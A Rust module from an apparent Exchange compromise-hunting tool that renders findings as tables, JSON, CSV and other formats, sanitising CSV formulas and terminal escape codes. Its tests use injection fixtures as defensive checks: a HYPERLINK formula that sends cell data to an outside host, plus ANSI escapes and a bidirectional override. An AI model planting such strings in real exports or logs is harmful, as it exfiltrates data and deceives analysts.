//! Renderers of the report: a table for people, JSON / JSONL / CSV for machines; the other
//! formats live in their own modules (`html`, `stix`, `misp`, `timesketch`).

use std::io::{self, Write};

use crate::model::{Finding, Host, Report, Severity, Stage, Verdict};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutputFormat {
    Table,
    Json,
    Jsonl,
    Csv,
    /// One self-contained page for people (fleet summary, timeline, evidence).
    Html,
    /// A STIX 2.1 bundle of the indicators found.
    Stix,
    /// A MISP event with the same indicators.
    Misp,
    /// Timesketch's JSONL import format.
    Timesketch,
    /// One CSV row per account the attacker touched (for a password-reset script).
    AccountsCsv,
}

impl std::str::FromStr for OutputFormat {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "table" => Ok(OutputFormat::Table),
            "json" => Ok(OutputFormat::Json),
            "jsonl" => Ok(OutputFormat::Jsonl),
            "csv" => Ok(OutputFormat::Csv),
            "html" => Ok(OutputFormat::Html),
            "stix" => Ok(OutputFormat::Stix),
            "misp" => Ok(OutputFormat::Misp),
            "timesketch" => Ok(OutputFormat::Timesketch),
            "accounts-csv" => Ok(OutputFormat::AccountsCsv),
            other => Err(format!(
                "unknown format {other:?} (table, json, jsonl, csv, html, stix, misp, timesketch, accounts-csv)"
            )),
        }
    }
}

/// Writes `report` in `format`. `color` adds ANSI colours to the table.
pub fn render(report: &Report, format: OutputFormat, color: bool, out: &mut dyn Write) -> io::Result<()> {
    match format {
        OutputFormat::Json => {
            serde_json::to_writer_pretty(&mut *out, report)?;
            writeln!(out)
        }
        OutputFormat::Jsonl => jsonl(report, out),
        OutputFormat::Csv => csv_rows(report, out),
        OutputFormat::Table => table(report, color, out),
        OutputFormat::Html => crate::html::write(report, out),
        OutputFormat::Stix => crate::stix::write(report, out),
        OutputFormat::Misp => crate::misp::write(report, out),
        OutputFormat::Timesketch => crate::timesketch::write(report, out),
        OutputFormat::AccountsCsv => crate::accounts::write_csv(report, out),
    }
}

/// One object per line: a `host` line (the host without its findings, with a count, and the
/// run's `generated_at` and `rule_sets`), then a `finding` line per finding (with the host's
/// name), then a `skipped` line per unread file.
pub(crate) fn jsonl(report: &Report, out: &mut dyn Write) -> io::Result<()> {
    for host in &report.hosts {
        let mut summary = serde_json::to_value(host)?;
        if let Some(obj) = summary.as_object_mut() {
            obj.remove("findings");
            obj.insert("type".into(), "host".into());
            obj.insert("schema".into(), report.schema.clone().into());
            obj.insert("finding_count".into(), host.findings.len().into());
            obj.insert("generated_at".into(), report.generated_at.clone().into());
            obj.insert("rule_sets".into(), serde_json::to_value(&report.rule_sets)?);
        }
        serde_json::to_writer(&mut *out, &summary)?;
        writeln!(out)?;
        for finding in &host.findings {
            let mut v = serde_json::to_value(finding)?;
            if let Some(obj) = v.as_object_mut() {
                obj.insert("type".into(), "finding".into());
                obj.insert("host".into(), host.name.clone().into());
                obj.insert("verdict".into(), serde_json::to_value(host.verdict)?);
            }
            serde_json::to_writer(&mut *out, &v)?;
            writeln!(out)?;
        }
    }
    for s in &report.skipped {
        let mut v = serde_json::to_value(s)?;
        if let Some(obj) = v.as_object_mut() {
            obj.insert("type".into(), "skipped".into());
        }
        serde_json::to_writer(&mut *out, &v)?;
        writeln!(out)?;
    }
    Ok(())
}

pub const CSV_COLUMNS: [&str; 13] = [
    "host",
    "verdict",
    "exchange_build",
    "rule",
    "title",
    "severity",
    "stage",
    "cves",
    "time",
    "source",
    "line",
    "excerpt",
    "detail",
];

/// One row per finding; a host without findings still gets one row so its verdict is not lost.
fn csv_rows(report: &Report, out: &mut dyn Write) -> io::Result<()> {
    csv_part(report, true, out)
}

/// The CSV rows of `report`'s hosts, with the header line when `header`.
pub(crate) fn csv_part(report: &Report, header: bool, out: &mut dyn Write) -> io::Result<()> {
    let mut w = csv::Writer::from_writer(out);
    if header {
        w.write_record(CSV_COLUMNS)?;
    }
    for host in &report.hosts {
        let verdict = host.verdict.to_string();
        let build = host.exchange_build.clone().unwrap_or_default();
        if host.findings.is_empty() {
            w.write_record(
                [host.name.as_str(), &verdict, &build, "", "", "", "", "", "", "", "", "", ""]
                    .map(|c| neutralise(c).into_owned()),
            )?;
        }
        for f in &host.findings {
            w.write_record(
                [
                    host.name.as_str(),
                    &verdict,
                    &build,
                    &f.rule,
                    &f.title,
                    &f.severity.to_string(),
                    &f.stage.to_string(),
                    &f.cves.join(" "),
                    f.time.as_deref().unwrap_or(""),
                    &f.source,
                    &f.line.map(|l| l.to_string()).unwrap_or_default(),
                    &f.excerpt,
                    &serde_json::to_string(&f.detail)?,
                ]
                .map(|c| neutralise(c).into_owned()),
            )?;
        }
    }
    w.flush()?;
    Ok(())
}

/// OWASP's rule against CSV injection: a cell that a spreadsheet would read as a formula (it
/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`. Log-derived
/// text (excerpts, user agents, paths) is attacker-controlled.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// Text for a terminal: control characters (ANSI escapes, CR, NUL, backspace…) and the Unicode
/// bidirectional overrides are dropped, so a log line cannot move the cursor, recolour, hide
/// text or reorder what the analyst reads.
pub fn printable(text: &str) -> std::borrow::Cow<'_, str> {
    let bad = |c: char| {
        c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    if text.chars().any(bad) { text.chars().filter(|&c| !bad(c)).collect::<String>().into() } else { text.into() }
}

struct Paint {
    on: bool,
}

impl Paint {
    fn wrap(&self, code: &str, text: &str) -> String {
        if self.on { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_string() }
    }
    fn verdict(&self, v: Verdict) -> String {
        let (code, label) = match v {
            Verdict::Compromised => ("1;41;97", " COMPROMISED "),
            Verdict::Attempted => ("1;43;30", " ATTEMPTED "),
            Verdict::Clean => ("1;42;30", " CLEAN "),
            Verdict::Inconclusive => ("1;47;30", " INCONCLUSIVE "),
        };
        self.wrap(code, label)
    }
    fn severity(&self, s: Severity) -> String {
        let code = match s {
            Severity::Critical => "1;31",
            Severity::High => "31",
            Severity::Medium => "33",
            Severity::Low => "36",
            Severity::Info => "2",
        };
        self.wrap(code, &format!("{s:<8}"))
    }
    fn bold(&self, t: &str) -> String {
        self.wrap("1", t)
    }
}

/// Findings shown per stage before the rest is summarised.
const PER_STAGE: usize = 12;

fn table(report: &Report, color: bool, out: &mut dyn Write) -> io::Result<()> {
    let p = Paint { on: color };
    for host in &report.hosts {
        host_table(host, &p, out)?;
    }
    let verdicts: Vec<Verdict> = report.hosts.iter().map(|h| h.verdict).collect();
    table_tail(report, &verdicts, color, out)
}

/// What ends the table: the files not read, the rule sets, the count per verdict.
pub(crate) fn table_tail(report: &Report, verdicts: &[Verdict], color: bool, out: &mut dyn Write) -> io::Result<()> {
    let p = Paint { on: color };
    if !report.skipped.is_empty() {
        writeln!(out, "{}", p.bold(&format!("Files not read ({})", report.skipped.len())))?;
        for s in &report.skipped {
            writeln!(out, "  {}\n      {}", printable(&s.path), printable(&s.reason))?;
        }
        writeln!(out)?;
    }
    if !report.rule_sets.is_empty() {
        let sets: Vec<String> = report
            .rule_sets
            .iter()
            .map(|r| {
                let skipped = if r.skipped > 0 { format!(", {} skipped", r.skipped) } else { String::new() };
                format!("{} {} ({}{skipped})", r.kind, printable(&r.path), r.loaded)
            })
            .collect();
        writeln!(out, "Rule sets: {}.", sets.join("; "))?;
    }
    let counts = |v: Verdict| verdicts.iter().filter(|x| **x == v).count();
    writeln!(
        out,
        "{} host(s): {} compromised, {} attempted, {} clean, {} inconclusive.",
        verdicts.len(),
        counts(Verdict::Compromised),
        counts(Verdict::Attempted),
        counts(Verdict::Clean),
        counts(Verdict::Inconclusive)
    )
}

pub(crate) fn host_table_plain(host: &Host, color: bool, out: &mut dyn Write) -> io::Result<()> {
    host_table(host, &Paint { on: color }, out)
}

fn host_table(host: &Host, p: &Paint, out: &mut dyn Write) -> io::Result<()> {
    let rule = "═".repeat(78);
    writeln!(out, "{rule}")?;
    writeln!(out, " {}  {}", p.bold(&printable(&host.name)), p.verdict(host.verdict))?;
    writeln!(out, "{rule}")?;
    writeln!(out, "{}\n", printable(&host.reason))?;
    writeln!(out, "  Evidence   {}", printable(&host.evidence))?;
    let window = match (&host.evidence_window.from, &host.evidence_window.to) {
        (Some(f), Some(t)) => format!("{} → {} (the log rows and events read)", short_time(f), short_time(t)),
        _ => "no dated log row or event was read".to_string(),
    };
    writeln!(out, "  Window     {window}")?;
    writeln!(
        out,
        "  Exchange   {}",
        printable(host.exchange_build.as_deref().unwrap_or("unknown (no build in these logs)"))
    )?;
    for (i, patch) in host.patch.iter().enumerate() {
        let label = if i == 0 { "Patches" } else { "" };
        let fix = match (&patch.status[..], &patch.fixed_in) {
            ("fixed", _) => "fixed".to_string(),
            ("vulnerable", Some(b)) => format!("VULNERABLE: fixed in {b}"),
            ("vulnerable", None) => "VULNERABLE: no update for this version; upgrade to a supported CU".to_string(),
            (_, Some(b)) => format!("unknown (fixed from {b})"),
            _ => "unknown".to_string(),
        };
        writeln!(out, "  {label:<10} {:<14} {fix}", patch.family)?;
    }
    for (i, c) in host.coverage.iter().enumerate() {
        let label = if i == 0 { "Logs read" } else { "" };
        let span = match (&c.first, &c.last) {
            (Some(f), Some(l)) => format!("{} → {}", short_time(f), short_time(l)),
            _ if c.source == "Files" => "swept (file times are not evidence times)".to_string(),
            _ => "no dated rows".to_string(),
        };
        writeln!(out, "  {label:<10} {:<13} {:>5} file(s)  {span}", printable(&c.source), c.files)?;
    }
    if host.coverage.is_empty() {
        writeln!(out, "  Logs read  none of the logs the checks read were found")?;
    }
    writeln!(out)?;
    if host.findings.is_empty() {
        writeln!(out, "  No findings.\n")?;
    } else {
        writeln!(out, "{}", p.bold("  What happened, stage by stage"))?;
        let mut stages: Vec<Stage> = host.findings.iter().map(|f| f.stage).collect();
        stages.sort();
        stages.dedup();
        for stage in stages {
            let in_stage: Vec<&Finding> = host.findings.iter().filter(|f| f.stage == stage).collect();
            writeln!(out, "  ── {} ({})", stage_label(stage), in_stage.len())?;
            let groups = group_by_rule(&in_stage);
            for g in groups.iter().take(PER_STAGE) {
                let f = g.first;
                let when = f.time.as_deref().map(short_time).unwrap_or_else(|| "(no time)".into());
                let repeat = match (g.count, g.last_time) {
                    (1, _) => String::new(),
                    (n, Some(last)) => format!("  (×{n}, last {})", short_time(last)),
                    (n, None) => format!("  (×{n})"),
                };
                writeln!(
                    out,
                    "    {}  {} {}  {}{repeat}",
                    printable(&format!("{when:<19}")),
                    p.severity(g.severity),
                    printable(&f.rule),
                    printable(&f.title)
                )?;
                let place = match f.line {
                    Some(l) => format!("{}:{l}", f.source),
                    None => f.source.clone(),
                };
                writeln!(out, "{:25}{}", "", printable(&place))?;
                if !g.context.is_empty() {
                    writeln!(out, "{:25}{}", "", printable(&g.context.join("  ")))?;
                }
            }
            if groups.len() > PER_STAGE {
                writeln!(out, "    … and {} more rules (see --format json)", groups.len() - PER_STAGE)?;
            }
        }
        writeln!(out)?;
    }
    let accounts = crate::accounts::table_lines(host);
    if !accounts.is_empty() {
        writeln!(out, "{}", p.bold(&format!("  Accounts the attacker touched ({})", host.accounts.len())))?;
        for line in accounts {
            writeln!(out, "    {line}")?;
        }
        writeln!(out)?;
    }
    writeln!(out, "{}", p.bold("  What to do next"))?;
    for (i, step) in next_steps(host).iter().enumerate() {
        writeln!(out, "    {}. {step}", i + 1)?;
    }
    writeln!(out)
}

/// Findings of one rule within a stage, told once: the first, how many, the last time, and the
/// distinct addresses and written paths they name (a busy attack gives dozens of the same hit).
pub(crate) struct Group<'a> {
    pub(crate) first: &'a Finding,
    pub(crate) count: usize,
    pub(crate) last_time: Option<&'a str>,
    pub(crate) severity: Severity,
    pub(crate) context: Vec<String>,
}

pub(crate) fn group_by_rule<'a>(findings: &[&'a Finding]) -> Vec<Group<'a>> {
    let mut groups: Vec<Group<'a>> = Vec::new();
    for f in findings {
        let g = match groups.iter_mut().position(|g| g.first.rule == f.rule) {
            Some(i) => &mut groups[i],
            None => {
                groups.push(Group { first: f, count: 0, last_time: None, severity: f.severity, context: Vec::new() });
                groups.last_mut().expect("just pushed")
            }
        };
        g.count += 1;
        g.severity = g.severity.max(f.severity);
        if f.time.is_some() {
            g.last_time = f.time.as_deref();
        }
        for key in ["ClientIpAddress", "c-ip", "written_path"] {
            if let Some(v) = f.detail.get(key).and_then(|v| v.as_str()) {
                let item = format!("{key}={v}");
                if !g.context.contains(&item) && g.context.len() < 4 {
                    g.context.push(item);
                }
            }
        }
        if let Some(rule) = f.detail.get("written_by").and_then(|w| w.get("write_rule")).and_then(|v| v.as_str()) {
            let item = format!("a file written by the attacker (see {rule})");
            if !g.context.contains(&item) {
                g.context.push(item);
            }
        }
        if let Some(on_disk) = f.detail.get("on_disk").and_then(|v| v.as_array()) {
            let item = format!("on disk: {} rule hit(s)", on_disk.len());
            if !g.context.contains(&item) {
                g.context.push(item);
            }
        }
    }
    groups
}

pub(crate) fn stage_label(stage: Stage) -> &'static str {
    match stage {
        Stage::Scan => "scan: scanners and version probes (context, not an attack)",
        Stage::Recon => "recon",
        Stage::Exploit => "exploit",
        Stage::Persistence => "persistence: settings changed, files written",
        Stage::Webshell => "web shell",
        Stage::Execution => "execution",
        Stage::CredentialAccess => "credential access",
        Stage::Collection => "collection",
        Stage::Cleanup => "clean-up",
    }
}

fn short_time(t: &str) -> String {
    t.replace('T', " ").chars().take(19).collect()
}

/// Advice for a non-expert, from the verdict and the patch status.
pub fn next_steps(host: &Host) -> Vec<String> {
    let mut steps = Vec::new();
    match host.verdict {
        Verdict::Compromised => {
            steps.push(
                "Isolate the server from the network (keep it powered on if you can, for memory evidence).".into(),
            );
            steps.push(
                "Preserve the evidence: keep a copy of the logs and web folders before changing anything.".into(),
            );
            steps.push("Rebuild the server from clean media; patching alone does not remove a web shell.".into());
            steps.push("Reset the credentials the server held or saw (administrators, service accounts, mailbox users), and review the accounts and mailboxes named in the findings.".into());
            steps.push("Report the incident to your CERT or national task force.".into());
        }
        Verdict::Attempted => {
            steps.push("Check each finding above; confirm nothing was written to the web folders (aspnet_client, owa\\auth, ecp\\auth).".into());
            steps.push(
                "Collect the rest of the server's evidence (event logs, web folders) and run the hunt again.".into(),
            );
        }
        Verdict::Inconclusive => {
            steps.push("Collect the missing logs named above (Exchange Logging folder and inetpub\\logs\\LogFiles) and run the hunt again.".into());
        }
        Verdict::Clean => {}
    }
    steps.extend(crate::accounts::advice(host));
    let vulnerable: Vec<_> = host.patch.iter().filter(|p| p.status == "vulnerable").collect();
    let families =
        |list: &[&crate::model::Patch]| list.iter().map(|p| p.family.as_str()).collect::<Vec<_>>().join(", ");
    let no_update: Vec<_> = vulnerable.iter().copied().filter(|p| p.fixed_in.is_none()).collect();
    if !no_update.is_empty() {
        steps.push(format!(
            "Patch: no security update exists for this version against {}. Upgrade to a supported Cumulative Update and install its latest Security Update.",
            families(&no_update)
        ));
    } else if let Some(target) =
        vulnerable.iter().filter_map(|p| p.fixed_in.as_deref()).max_by(|a, b| compare_builds(a, b))
    {
        steps.push(format!(
            "Patch: the server is vulnerable to {}. Install the Security Updates that bring it to build {target} or later.",
            families(&vulnerable)
        ));
    }
    if host.exchange_build.is_none() {
        steps.push(
            "Find the Exchange build (Exchange Management Shell: Get-Command ExSetup | % FileVersionInfo) and compare it with Microsoft's build list; with the HttpProxy logs or Bin\\ExSetup.exe in the evidence, taskforce does this for you."
                .into(),
        );
    }
    if host.patch.iter().any(|p| p.status == "unknown") && host.exchange_build.is_some() {
        steps.push("Confirm the exact build (with its security update) with ExSetup.exe's file version.".into());
    }
    if steps.is_empty() {
        steps.push("Nothing to do now; keep Exchange on a supported CU with the latest security update.".into());
    }
    steps
}

fn compare_builds(a: &str, b: &str) -> std::cmp::Ordering {
    let parts = |s: &str| s.split('.').map(|p| p.parse::<u64>().unwrap_or(0)).collect::<Vec<_>>();
    parts(a).cmp(&parts(b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{EvidenceWindow, Finding, Host, Report, Skipped};

    fn hostile_report() -> Report {
        let finding = Finding {
            rule: "TF-X".into(),
            title: "t".into(),
            severity: Severity::High,
            stage: Stage::Exploit,
            cves: vec![],
            time: Some("2021-03-03T04:00:00Z".into()),
            source: "logs/u_ex\x1b[2J.log".into(),
            line: Some(3),
            excerpt: "=HYPERLINK(\"http://198.51.100.1/?\"&A1)".into(),
            detail: serde_json::json!({"c-ip": "203.0.113.9\x1b]0;owned\x07", "UserAgent": "-cmd"})
                .as_object()
                .unwrap()
                .clone(),
        };
        let host = Host {
            name: "@SUM(1+1)\x1b[31mEXCH01\r\u{202e}".into(),
            evidence: "ev".into(),
            verdict: Verdict::Attempted,
            reason: "reason with \x00 NUL and \x08 backspace".into(),
            exchange_build: None,
            patch: vec![],
            coverage: vec![],
            evidence_window: EvidenceWindow::default(),
            unreadable_files: 0,
            findings: vec![finding],
            accounts: vec![],
        };
        Report::new(vec![host], vec![Skipped { path: "a\rb".into(), reason: "+1".into() }])
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
        let mut out = Vec::new();
        render(&hostile_report(), OutputFormat::Csv, false, &mut out).unwrap();
        let mut rows = csv::Reader::from_reader(out.as_slice());
        let row = rows.records().next().unwrap().unwrap();
        assert!(row[0].starts_with("'@SUM"), "{:?}", &row[0]);
        assert!(row[11].starts_with("'=HYPERLINK"), "{:?}", &row[11]);
        for cell in row.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
        assert_eq!(neutralise("-"), "'-");
        assert_eq!(neutralise("\tx"), "'\tx");
        assert_eq!(neutralise("2021-03-03"), "2021-03-03");
        assert_eq!(neutralise(""), "");
    }

    #[test]
    fn the_table_carries_no_control_characters_from_the_logs() {
        let mut out = Vec::new();
        render(&hostile_report(), OutputFormat::Table, false, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let bad: Vec<char> = text.chars().filter(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}').collect();
        assert!(bad.is_empty(), "{bad:?} in\n{text}");
        assert!(text.contains("@SUM(1+1)[31mEXCH01"), "{text}");
        assert!(text.contains("203.0.113.9]0;owned"), "{text}");
        // With colour on, only our own escapes are there.
        let mut out = Vec::new();
        render(&hostile_report(), OutputFormat::Table, true, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(!text.contains("\x1b[2J") && !text.contains("\x1b]0;") && !text.contains('\r'));
    }
}
